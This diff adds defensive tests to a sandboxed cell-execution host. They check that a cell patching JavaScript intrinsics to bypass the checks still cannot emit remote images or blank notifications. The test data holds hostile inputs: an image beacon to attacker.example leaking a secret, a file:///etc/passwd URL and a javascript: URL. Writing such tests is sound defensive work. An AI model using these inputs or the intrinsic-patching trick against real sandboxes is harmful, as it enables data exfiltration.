@@ -44,3 +44,28 @@ for (const kind of bothKinds) {
     });
   });
 }
+
+for (const kind of bothKinds) {
+  describe(`${kind.name}: rules enforced by the host`, () => {
+    test('a cell that patches the intrinsics behind the sandbox checks still cannot deliver a remote image or a blank notification', async (t) => {
+      const delegate = new RecordingDelegate();
+      const session = await kind.open(t, delegate);
+      const source = [
+        'RegExp.prototype.test = function () { return this.source.startsWith("^data"); };',
+        'String.prototype.trim = function () { return "not blank"; };',
+        'for (const url of ["https://attacker.example/pixel.png?leak=secret", "file:///etc/passwd", "javascript:alert(1)", "data:text/html,<b>x</b>"]) image(url);',
+        'notify("   ");',
+        'text("done")',
+      ].join('\n');
+      const event = await (await session.execute({ source })).initialEvent;
+      assert.deepEqual(event.items, [{ type: 'text', text: 'done' }]);
+      assert.deepEqual(delegate.notifications, []);
+    });
+
+    test('image() refuses a data: URL that is not an image', async (t) => {
+      const session = await kind.open(t, new RecordingDelegate());
+      const event = await (await session.execute({ source: 'image("data:text/plain,hello")' })).initialEvent;
+      assert.match(event.kind === 'completed' ? (event.error ?? '') : '', /^TypeError: image\(\) expects a data: URL of an image type/);
+    });
+  });
+}
